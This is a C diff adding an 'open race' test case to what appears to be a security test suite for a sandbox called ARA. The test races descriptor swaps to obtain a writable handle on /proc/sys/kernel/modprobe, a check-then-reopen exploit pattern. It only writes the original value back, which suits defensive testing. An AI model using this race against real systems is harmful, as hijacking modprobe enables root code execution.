@@ -359,6 +359,107 @@ static int attack_modprobe(void)
 	return rc;
 }
 
+/*
+ * The open race: ARA checks the object behind its O_PATH probe, then
+ * reopens that object through /proc/thread-self/fd/N. Another thread puts
+ * an O_PATH descriptor of modprobe (which may be opened O_PATH, since it
+ * may be read) at the number the probe takes, the moment something else
+ * is there; this thread opens a file of its own for writing, again and
+ * again, and looks at what it got. ARA's probe and reopen live in a
+ * descriptor table of its own, which the other thread cannot reach.
+ */
+#define RACE_ATTEMPTS 4000
+static struct {
+	int evil, slot;
+	struct stat evil_st;
+	int stop;
+	unsigned long swaps;
+} race;
+
+/*
+ * Swapped at once, the probe would be checked as modprobe and refused: the
+ * swap must fall between the check and the reopen, so it waits a different
+ * while each time.
+ */
+static void *race_swap(void *arg)
+{
+	struct stat st;
+	uint32_t lcg = 1;
+
+	(void)arg;
+	while (!__atomic_load_n(&race.stop, __ATOMIC_RELAXED)) {
+		if (fstat(race.slot, &st) != 0 || st.st_ino == race.evil_st.st_ino)
+			continue;
+		lcg = lcg * 1103515245u + 12345u;
+		for (volatile uint32_t spin = (lcg >> 8) % 20000u; spin > 0; spin--)
+			;
+		if (dup3(race.evil, race.slot, 0) == race.slot)
+			race.swaps++;
+	}
+	return NULL;
+}
+
+static int attack_open_race(void)
+{
+	char own[] = "/tmp/ara-open-race-XXXXXX";
+	int own_fd = mkstemp(own), rc = 1, opened = 0, won = -1;
+	pthread_t t;
+
+	race.evil = open("/proc/sys/kernel/modprobe", O_PATH | O_CLOEXEC);
+	if (own_fd < 0 || race.evil < 0 || fstat(race.evil, &race.evil_st) != 0) {
+		printf("FAIL: set-up (own file, O_PATH modprobe): %s\n", strerror(errno));
+		return 1;
+	}
+	close(own_fd);
+	race.slot = dup(0); /* the lowest free number: where the next open's descriptor goes */
+	close(race.slot);
+	if (pthread_create(&t, NULL, race_swap, NULL) != 0) {
+		printf("FAIL: pthread_create\n");
+		return 1;
+	}
+	for (int i = 0; i < RACE_ATTEMPTS && won < 0; i++) {
+		int fd = open(own, O_RDWR | O_CLOEXEC), fl;
+		struct stat st;
+
+		if (fd < 0)
+			continue; /* the other thread closed or replaced one of ARA's descriptors */
+		fl = fcntl(fd, F_GETFL);
+		if (fstat(fd, &st) == 0 && st.st_ino == race.evil_st.st_ino &&
+		    st.st_dev == race.evil_st.st_dev && fl >= 0 && !(fl & O_PATH) &&
+		    (fl & O_ACCMODE) == O_RDWR)
+			won = fd;
+		else
+			close(fd);
+		opened++;
+		close(race.slot); /* free the number again (the swapped-in modprobe, or nothing) */
+	}
+	__atomic_store_n(&race.stop, 1, __ATOMIC_RELAXED);
+	pthread_join(t, NULL);
+	unlink(own);
+	printf("ara-evidence: %d opens of a file of the App's own for writing, %lu descriptors "
+	       "swapped in by another thread\n", opened, race.swaps);
+	if (won >= 0) {
+		char value[512];
+		ssize_t len = read_small(won, value, sizeof(value));
+
+		if (len > 0 && lseek(won, 0, SEEK_SET) == 0 && write(won, value, (size_t)len) == len) {
+			value[strcspn(value, "\n")] = '\0';
+			printf("won the open race: wrote /proc/sys/kernel/modprobe (back to its value, %s)\n",
+			       value);
+		} else {
+			printf("FAIL: won the open race, but the write of modprobe's own value failed: %s\n",
+			       strerror(errno));
+		}
+		printf("the open race was not refused\n");
+		return 1;
+	}
+	if (opened == 0 || race.swaps == 0)
+		printf("FAIL: the race did not run (%d opens, %lu swaps)\n", opened, race.swaps);
+	else
+		rc = 0;
+	return rc;
+}
+
 /* sysrq-trigger: one byte reboots the machine. Opened, never written. */
 static int attack_sysrq_trigger(void)
 {
@@ -494,6 +595,7 @@ static const struct attack_entry attacks[] = {
 	{ "file_sysrq_trigger", attack_sysrq_trigger },
 	{ "file_tracefs_uprobe", attack_tracefs_uprobe },
 	{ "file_sysfs_reopen_write", attack_sysfs_reopen_write },
+	{ "file_open_race", attack_open_race },
 	{ "file_cgroup_write", attack_cgroup_write },
 	{ "file_debugfs", attack_debugfs },
 };
